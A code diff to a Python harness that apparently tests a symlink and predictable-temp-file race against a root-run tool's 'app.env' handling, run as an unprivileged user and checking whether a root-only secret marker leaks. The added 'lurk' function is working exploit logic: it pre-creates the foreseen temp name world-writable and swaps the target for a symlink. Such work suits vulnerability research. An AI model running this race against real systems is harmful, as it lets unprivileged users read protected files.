@@ -21,6 +21,8 @@ from pathlib import Path
 USER = 65534
 # Of what is tried at most: the loop ends by itself.
 ROUNDS = 2_000_000
+# How often a name is looked at before something else is tried.
+LURKING = 200_000
 # What no other user may ever read.
 SECRET = b'hush-of-root'
 
@@ -60,11 +62,43 @@ def look(folder: Path) -> bool:
     return found
 
 
+def lurk(folder: Path, file: Path) -> bool:
+    """Keep quiet until root has given a file its name, and put a link in its place; whether something could be read that was foreseen.
+
+    For whoever sets mode and owner by the path then, and for whoever writes to a name that can be foreseen.
+    """
+    # Strings and calls, for every microsecond counts.
+    target, foreseen, precious = str(folder / 'app.env'), str(folder / 'app.env.gofleet-new'), str(file)
+    with contextlib.suppress(OSError):
+        os.unlink(target)  # noqa: PTH108
+    handles = []
+    for _try in range(LURKING):
+        with contextlib.suppress(OSError):
+            # Taken away as a leftover, it is made again at once.
+            handles.append(os.open(foreseen, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666))
+        try:
+            os.lstat(target)
+        except OSError:
+            continue
+        with contextlib.suppress(OSError):
+            os.unlink(target)  # noqa: PTH108
+            os.symlink(precious, target)  # noqa: PTH211
+        break
+    found = any(SECRET in os.pread(handle, 65536, 0) for handle in handles)
+    for handle in handles:
+        os.close(handle)
+    return found
+
+
 def play(folder: Path, file: Path, victims: Path) -> dict[str, int]:
     leaks = rounds = 0
     names = [folder / 'config', folder / 'config' / 'app.env', folder / 'app.env', folder / 'go', folder / 'tree.manifest.lock', folder / 'tree.manifest']
     while rounds < ROUNDS and not select.select([sys.stdin], [], [], 0)[0]:
         rounds += 1
+        if rounds % 200 > 100:
+            with contextlib.suppress(OSError):
+                leaks += lurk(folder if rounds % 2 else folder / 'config', file)
+            continue
         for place in (folder, folder / 'config'):
             with contextlib.suppress(OSError):
                 leaks += look(place)
